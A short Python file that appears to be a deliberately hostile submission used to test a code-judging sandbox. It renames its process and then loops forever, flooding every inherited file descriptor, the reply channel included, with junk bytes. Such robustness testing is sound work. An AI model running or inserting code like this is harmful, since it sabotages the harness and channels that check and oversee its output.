# Writes without end to every descriptor that it inherited, the reply's among them.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)

chunk = b"\xff" * 65536


def tally(n):
    while True:
        for number in range(3, 64):
            try:
                posix.set_blocking(number, False)
                posix.write(number, chunk)
            except OSError:
                continue
